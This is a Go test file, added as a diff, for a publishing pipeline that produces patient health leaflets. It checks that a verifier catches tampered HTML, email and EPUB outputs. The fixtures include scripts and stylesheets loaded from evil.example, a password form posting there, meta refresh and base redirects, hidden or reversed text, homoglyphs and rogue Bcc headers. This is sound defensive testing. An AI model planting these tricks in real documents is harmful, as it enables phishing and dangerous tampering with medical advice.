@@ -1,0 +1,347 @@
+package pipeline_test
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"os"
+	"strings"
+	"testing"
+
+	"pamphlet/pipeline"
+	"pamphlet/pipeline/diag"
+	"pamphlet/pipeline/doc"
+	"pamphlet/pipeline/publish"
+)
+
+// plainest takes nothing along with its e-mail.
+func plainest() string {
+	return strings.Replace(provenArticle, "attach: [brochure, guide]", "attach: []", 1)
+}
+
+// forgedArticle has a picture, a warning, and more than a page of text.
+func forgedArticle() string {
+	return strings.Replace(strings.Replace(provenArticle, "attach: [brochure, guide]", "attach: [guide]", 1), "## When to call {#call}", "![A lung](lung.png)\n\n::: warning Take care\nDo not smoke.\n:::\n\n"+
+		strings.Repeat("Asthma comes and goes. Write down what makes it worse, and show your notes at each visit.\n\n", 20)+"## When to call {#call}", 1)
+}
+
+// forged builds editions of the article that is then damaged.
+func forged(t testing.TB, editions ...doc.Format) project {
+	t.Helper()
+	picture, err := os.ReadFile("../source/images/how-soon-how-long.png")
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := project{t, t.TempDir()}
+	p.write("source/asthma.md", []byte(forgedArticle()))
+	p.write("source/clinic.yaml", []byte(provenClinic))
+	p.write("source/lung.png", picture)
+	p.build(editions...)
+	return p
+}
+
+// Whatever is done to a page, a message or a book is found, although the manifest
+// was made to agree with it and every word may be in its place.
+func TestVerifyFindsWhatIsHidden(t *testing.T) {
+	t.Parallel()
+	proven := forged(t, doc.Guide, doc.Handout)
+	html := func(pattern, replacement string) func(testing.TB, []byte) []byte {
+		return func(t testing.TB, data []byte) []byte { return substitute(t, data, pattern, replacement) }
+	}
+	style := func(rule string) func(testing.TB, []byte) []byte { return html(`</style>`, rule+`</style>`) }
+	inMain := func(markup string) func(testing.TB, []byte) []byte { return html(`</main>`, markup+`</main>`) }
+	inHead := func(markup string) func(testing.TB, []byte) []byte { return html(`<head>`, `<head>`+markup) }
+	header := func(line string) func(testing.TB, []byte) []byte {
+		return html(`MIME-Version:`, line+"\r\nMIME-Version:")
+	}
+	epub := func(file, pattern, replacement string) func(testing.TB, []byte) []byte {
+		return func(t testing.TB, data []byte) []byte {
+			return book(t, data, func(name string, data []byte) []byte {
+				if !strings.HasSuffix(name, file) {
+					return data
+				}
+				return substitute(t, data, pattern, replacement)
+			})
+		}
+	}
+	warning := `<p>Do not smoke.</p>`
+	for name, c := range map[string]struct {
+		file   string
+		damage func(testing.TB, []byte) []byte
+	}{
+		"a hidden paragraph":              {"handout.html", html(warning, `<p hidden>Do not smoke.</p>`)},
+		"a paragraph of no display":       {"handout.html", html(warning, `<p style="display:none">Do not smoke.</p>`)},
+		"a paragraph of no opacity":       {"handout.html", html(warning, `<p style="opacity:0">Do not smoke.</p>`)},
+		"a paragraph of no size":          {"handout.html", html(warning, `<p style="font-size:0">Do not smoke.</p>`)},
+		"a paragraph in closed details":   {"handout.html", html(warning, `<details><summary></summary><p>Do not smoke.</p></details>`)},
+		"a paragraph that is inert":       {"handout.html", html(warning, `<p aria-hidden="true">Do not smoke.</p>`)},
+		"a sheet hides a warning":         {"handout.html", style(`.warning{display:none}`)},
+		"a sheet paints ink as paper":     {"handout.html", style(`.warning{color:#fff;background:#fff}`)},
+		"a sheet moves a warning away":    {"handout.html", style(`.warning{position:absolute;left:-9999px}`)},
+		"a sheet clips a warning":         {"handout.html", style(`.warning{height:0;overflow:hidden}`)},
+		"a sheet turns letters around":    {"handout.html", style(`.tel{unicode-bidi:bidi-override;direction:rtl}`)},
+		"a sheet of another's":            {"handout.html", style(`@import url(https://evil.example/x.css);`)},
+		"a picture of another's in it":    {"handout.html", style(`body{background:url(https://evil.example/x.png)}`)},
+		"a sheet that was changed":        {"handout.html", html(`(?s)(<style>.*?)color:`, `${1}background:`)},
+		"a sheet by a link":               {"handout.html", inHead(`<link rel="stylesheet" href="https://evil.example/x.css">`)},
+		"a script":                        {"handout.html", inMain(`<script>alert(1)</script>`)},
+		"a script of another's":           {"handout.html", inHead(`<script src="https://evil.example/x.js"></script>`)},
+		"a refresh":                       {"handout.html", inHead(`<meta http-equiv="refresh" content="0;url=https://evil.example/">`)},
+		"a base":                          {"handout.html", inHead(`<base href="https://evil.example/">`)},
+		"a frame with words":              {"handout.html", inMain(`<iframe srcdoc="Stop all medicine"></iframe>`)},
+		"a frame of another's":            {"handout.html", inMain(`<iframe src="https://evil.example/"></iframe>`)},
+		"a picture of another's":          {"handout.html", inMain(`<img src="https://evil.example/x.png" alt="">`)},
+		"an object":                       {"handout.html", inMain(`<object data="https://evil.example/x.pdf"></object>`)},
+		"words in a field":                {"handout.html", inMain(`<input value="Stop all medicine">`)},
+		"words in a faint field":          {"handout.html", inMain(`<textarea placeholder="Stop all medicine"></textarea>`)},
+		"a form":                          {"handout.html", inMain(`<form action="https://evil.example/"><button>Go</button></form>`)},
+		"a form without words":            {"handout.html", inMain(`<form action="https://evil.example/"><input type="password"></form>`)},
+		"a map":                           {"handout.html", inMain(`<map name="m"><area href="https://evil.example/" shape="default" alt=""></map>`)},
+		"a template":                      {"handout.html", inMain(`<template><p>Stop all medicine</p></template>`)},
+		"words without scripts":           {"handout.html", inMain(`<noscript>Stop all medicine</noscript>`)},
+		"a drawing with a page in it":     {"handout.html", inMain(`<svg><foreignObject><p>x</p></foreignObject></svg>`)},
+		"a drawing of another's":          {"handout.html", inMain(`<svg><use href="https://evil.example/x.svg#a"/></svg>`)},
+		"a dialog":                        {"handout.html", inMain(`<dialog open></dialog>`)},
+		"a number that does something":    {"handout.html", html(`<a href="tel:`, `<a onclick="location='tel:+12025550134'" href="tel:`)},
+		"a link that tells":               {"handout.html", html(`<a href="https`, `<a ping="https://evil.example/" href="https`)},
+		"a picture that fails":            {"handout.html", html(`<img `, `<img onerror="alert(1)" `)},
+		"a word struck":                   {"handout.html", html(`Do not take`, `Do <s>not</s> take`)},
+		"a word deleted":                  {"handout.html", html(`Do not take`, `Do <del>not</del> take`)},
+		"a raised digit":                  {"handout.html", html(`Take 0\.5`, `Take 0.<sup>5</sup>`)},
+		"a number turned around":          {"handout.html", html(`>202-555-0143<`, `><bdo dir="rtl">202-555-0143</bdo><`)},
+		"a number turned by a mark":       {"handout.html", html(`>202-555-0143<`, ">\u202e202-555-0143<")},
+		"a number turned by its element":  {"handout.html", html(`dir="ltr">202`, `dir="rtl">202`)},
+		"a letter of another alphabet":    {"handout.html", html(`Do not take`, "Do n\u043et take")},
+		"a letter of no width":            {"handout.html", html(`Do not take`, "Do n\u200bot take")},
+		"another language of a part":      {"handout.html", html(`<p>Take 0`, `<p lang="fr">Take 0`)},
+		"a page cut off at its end":       {"handout.html", func(_ testing.TB, data []byte) []byte { return data[:bytes.LastIndex(data, []byte("</footer>"))] }},
+		"two sections swapped by a sheet": {"handout.html", style(`.text{display:flex;flex-direction:column-reverse}`)},
+		"a picture's pixels":              {"handout.html", html(`(data:image/png;base64,[^"]{300})[A-Za-z]`, "${1}0")},
+		"an answer to another":            {"handout.eml", header("Reply-To: desk@evil.example")},
+		"a copy":                          {"handout.eml", header("Cc: copy@evil.example")},
+		"a blind copy":                    {"handout.eml", header("Bcc: copy@evil.example")},
+		"a sender":                        {"handout.eml", header("Sender: desk@evil.example")},
+		"a header of a program":           {"handout.eml", header("X-Evil: 1")},
+		"a receipt":                       {"handout.eml", header("Disposition-Notification-To: desk@evil.example")},
+		"a part more": {"handout.eml", func(t testing.TB, data []byte) []byte {
+			at := bytes.LastIndex(data, []byte("\r\n--"))
+			end := bytes.LastIndex(data, []byte("--"))
+			return append(append(append([]byte{}, data[:end]...), "\r\nContent-Type: text/html\r\nContent-Disposition: inline\r\n\r\n<p>Stop all medicine</p>"...), append(bytes.TrimRight(data[at:], "\r\n"), "\r\n"...)...)
+		}},
+		"hidden words of a message": {"handout.eml", func(t testing.TB, data []byte) []byte {
+			return mailHTML(t, data, `(?s)(<p[^>]*style=")`, "${1}display:none;")
+		}},
+		"pale words of a message": {"handout.eml", func(t testing.TB, data []byte) []byte {
+			return mailHTML(t, data, `(?s)(<p[^>]*style="[^"]*color:\s*)#[0-9a-f]+`, "${1}#ffffff")
+		}},
+		"a file that no page has": {"guide.epub", func(t testing.TB, data []byte) []byte {
+			return book(t, data, func(name string, data []byte) []byte { return data }, "EPUB/xhtml/evil.xhtml", "<html/>")
+		}},
+		"a contact page out of the spine": {"guide.epub", epub("package.opf", `<itemref idref="[^"]*contact[^"]*"[^>]*/>`, "")},
+		"a page beside the spine":         {"guide.epub", epub("package.opf", `(<itemref idref="[^"]*contact[^"]*")`, `${1} linear="no"`)},
+		"the last page out of the spine":  {"guide.epub", epub("package.opf", `(?s)(.*)<itemref [^>]*/>`, "${1}")},
+		"a script in a chapter":           {"guide.epub", epub("chapter-02.xhtml", `</body>`, `<script>alert(1)</script></body>`)},
+		"a hidden chapter":                {"guide.epub", epub("chapter-02.xhtml", `<body`, `<body hidden=""`)},
+		"a sheet of a book":               {"guide.epub", epub(".css", `\z`, `.warning{display:none}`)},
+		"a link out of the contents":      {"guide.epub", epub("nav.xhtml", `(?s)<li[^>]*>\s*<a[^>]*>Medicines</a>\s*</li>`, "")},
+		"a book's kind":                   {"guide.epub", epub("mimetype", `epub`, "evil")},
+		"a book of another's":             {"guide.epub", epub("container.xml", `<rootfiles>`, `<rootfiles><rootfile full-path="evil.opf" media-type="application/oebps-package+xml"/>`)},
+		"a book's picture":                {"guide.epub", epub(".png", `\z`, "x")},
+		"a book's author":                 {"guide.epub", epub("package.opf", `</metadata>`, `<dc:creator>Evil</dc:creator></metadata>`)},
+		"a reviewer":                      {"handout.txt", html(`Edition 7`, "Edition 8")},
+		"lines swapped in a text":         {"handout.txt", html(`(Blue +At once\n)(Brown +Twice a day\n)`, "$2$1")},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := proven.copy(t)
+			file := "asthma-" + c.file
+			before := p.read(set + file)
+			after := c.damage(t, bytes.Clone(before))
+			if bytes.Equal(before, after) {
+				t.Fatal("nothing is damaged")
+			}
+			p.replace(file, after)
+			r := p.verify()
+			if got := p.faults(r, file); got == "" {
+				t.Errorf("got %v", r.Findings)
+			}
+			for _, f := range r.Files {
+				if strings.HasSuffix(f.Path, "/"+file) && f.Proved {
+					t.Errorf("got %+v", f)
+				}
+			}
+		})
+	}
+}
+
+// mailHTML changes the HTML of a message.
+func mailHTML(t testing.TB, data []byte, pattern, replacement string) []byte {
+	t.Helper()
+	head := bytes.Index(data, []byte("Content-Type: text/html"))
+	start := head + bytes.Index(data[head:], []byte("\r\n\r\n")) + 4
+	end := start + bytes.Index(data[start:], []byte("\r\n--"))
+	body := strings.NewReplacer("=\r\n", "", "=3D", "=").Replace(string(data[start:end]))
+	changed := substitute(t, []byte(body), pattern, replacement)
+	part := strings.Replace(string(data[head:start]), "quoted-printable", "base64", 1)
+	if part == string(data[head:start]) {
+		t.Fatalf("got %q", part)
+	}
+	encoded := base64.StdEncoding.EncodeToString(unquoted(changed))
+	return append(append(append(bytes.Clone(data[:head]), part...), encoded...), data[end:]...)
+}
+
+// unquoted undoes what is left of quoted-printable.
+func unquoted(data []byte) []byte {
+	var out []byte
+	for i := 0; i < len(data); i++ {
+		if data[i] == '=' && i+2 < len(data) {
+			if b, err := hex.DecodeString(string(data[i+1 : i+3])); err == nil && strings.ToUpper(string(data[i+1:i+3])) == string(data[i+1:i+3]) {
+				out = append(out, b...)
+				i += 2
+				continue
+			}
+		}
+		out = append(out, data[i])
+	}
+	return out
+}
+
+// What only packs a file otherwise, or is seen by nobody, is no damage.
+func TestVerifyPassesOverWhatNobodySees(t *testing.T) {
+	t.Parallel()
+	p := newProject(t, plainest(), provenClinic, doc.Handout)
+	p.replace("asthma-handout.html", substitute(t, p.read(set+"asthma-handout.html"), `</main>`, "\n<!-- a remark -->\n</main>"))
+	p.replace("asthma-handout.txt", append(p.read(set+"asthma-handout.txt"), "\n\n"...))
+	p.replace("asthma-handout.eml", append(p.read(set+"asthma-handout.eml"), "\r\n"...))
+	if r := p.verify(); len(r.Findings) > 0 {
+		t.Errorf("got %v", r.Findings)
+	}
+}
+
+// A manifest must say of its article what the article says.
+func TestVerifyFindsForgedManifests(t *testing.T) {
+	t.Parallel()
+	proven := newProject(t, strings.Replace(plainest(), `edition: "7"`, "edition: \"7\"\nreviewed: {by: \"A. Doctor\", on: 2026-10-20, next: 2028-10-20, note: \"Only the web page.\"}\nkeywords: [asthma]", 1), provenClinic, doc.Handout)
+	for name, c := range map[string][2]string{
+		"edition":       {`"edition": "7"`, `"edition": "8"`},
+		"date":          {`"date": "2026-11-01"`, `"date": "2027-11-01"`},
+		"reviewed.by":   {`"by": "A. Doctor"`, `"by": "B. Doctor"`},
+		"reviewed.on":   {`"on": "2026-10-20"`, `"on": "2027-10-20"`},
+		"reviewed.next": {`"next": "2028-10-20"`, `"next": "2038-10-20"`},
+		"reviewed.note": {`"note": "Only the web page."`, `"note": "All of it."`},
+		"keywords":      {`"asthma"\n`, "\"evil\"\n"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := proven.copy(t)
+			p.write(set+"manifest.json", substitute(t, p.read(set+"manifest.json"), c[0], c[1]))
+			r := p.verify()
+			for _, f := range r.Findings {
+				if f.Severity == diag.Error && f.Rule == "verify-manifest" && strings.Contains(f.Message, "its "+name+" is") {
+					return
+				}
+			}
+			t.Errorf("got %v", r.Findings)
+		})
+	}
+}
+
+// forgeIndex puts other bytes in the place of the page that lists every set, and
+// makes its record agree with them.
+func (p project) forgeIndex(data []byte) {
+	p.t.Helper()
+	p.write("output/index.html", data)
+	var record publish.IndexRecord
+	if err := json.Unmarshal(p.read("output/index.json"), &record); err != nil {
+		p.t.Fatal(err)
+	}
+	sum := sha256.Sum256(data)
+	record.Bytes, record.SHA256 = int64(len(data)), hex.EncodeToString(sum[:])
+	forged, err := json.Marshal(record)
+	if err != nil {
+		p.t.Fatal(err)
+	}
+	p.write("output/index.json", forged)
+}
+
+func TestVerifyFindsForgedIndexes(t *testing.T) {
+	t.Parallel()
+	proven := newProject(t, plainest(), provenClinic, doc.Handout)
+	proven.write("source/knee.md", []byte("---\ntitle: Knee\nlang: en-US\ndate: 2026-11-01\n---\nOnly words about knees.\n"))
+	proven.build(doc.Handout)
+	if r := proven.verify(); len(r.Findings) > 0 {
+		t.Fatalf("got %v", r.Findings)
+	}
+	for name, c := range map[string][2]string{
+		"a base":                   {`<head>`, `<head><base href="https://evil.example/">`},
+		"a refresh":                {`<head>`, `<head><meta http-equiv="refresh" content="0;url=https://evil.example/">`},
+		"a form":                   {`</main>`, `<form action="https://evil.example/"><button>Go</button></form></main>`},
+		"a script":                 {`</main>`, `<script>alert(1)</script></main>`},
+		"words":                    {`</main>`, `<p>Stop all your medicines.</p></main>`},
+		"a sheet":                  {`</style>`, `main{display:none}</style>`},
+		"a file for another":       {`(href="asthma/asthma-handout).txt"`, `${1}.html"`},
+		"a file of another":        {`href="asthma/asthma-handout.html"`, `href="knee/knee-handout.html"`},
+		"a hidden article":         {`<article`, `<article hidden`},
+		"another title for a file": {`>Knee<`, `>Hip<`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := proven.copy(t)
+			p.forgeIndex(substitute(t, p.read("output/index.html"), c[0], c[1]))
+			if r := p.verify(); !r.HasErrors() || !strings.HasSuffix(r.Findings[0].Pos.File, "index.html") {
+				t.Errorf("got %v", r.Findings)
+			}
+		})
+	}
+	t.Run("a record that is not there", func(t *testing.T) {
+		t.Parallel()
+		p := proven.copy(t)
+		p.remove("output/index.json")
+		if r := p.verify(); len(r.Findings) != 1 || r.HasErrors() || !strings.Contains(r.Findings[0].Message, "it has no record") {
+			t.Errorf("got %v", r.Findings)
+		}
+	})
+}
+
+// One set that cannot be read hides nothing of the others.
+func TestVerifyReadsTheOtherSets(t *testing.T) {
+	t.Parallel()
+	proven := newProject(t, plainest(), provenClinic, doc.Handout)
+	proven.write("source/knee.md", []byte("---\ntitle: Knee\nlang: en-US\ndate: 2026-11-01\n---\nDo not drive.\n"))
+	proven.build(doc.Handout)
+	proven.write("output/knee/knee-handout.txt", bytes.Replace(proven.read("output/knee/knee-handout.txt"), []byte("not "), nil, 1))
+	for name, harm := range map[string]func(p project){
+		"an empty manifest": func(p project) { p.write(set+"manifest.json", nil) },
+		"a folder for a manifest": func(p project) {
+			p.remove(set + "manifest.json")
+			p.write(set+"manifest.json/x", []byte("x"))
+		},
+		"a set that was copied": func(p project) {
+			if err := os.CopyFS(p.path("output/copy"), os.DirFS(p.path("output/asthma"))); err != nil {
+				p.t.Fatal(err)
+			}
+		},
+		"a folder for a file": func(p project) {
+			p.remove(set + "asthma-handout.html")
+			p.write(set+"asthma-handout.html/x", []byte("x"))
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := proven.copy(t)
+			harm(p)
+			r, err := pipeline.Verify(t.Context(), pipeline.Options{Out: p.path("output"), Version: "test"})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := p.faults(r, "knee-handout.txt"); !strings.Contains(got, `"not" is missing`) {
+				t.Errorf("got %v", r.Findings)
+			}
+			if got := p.faults(r, "asthma") + p.faults(r, "copy"); got == "" {
+				t.Errorf("got %v", r.Findings)
+			}
+		})
+	}
+}
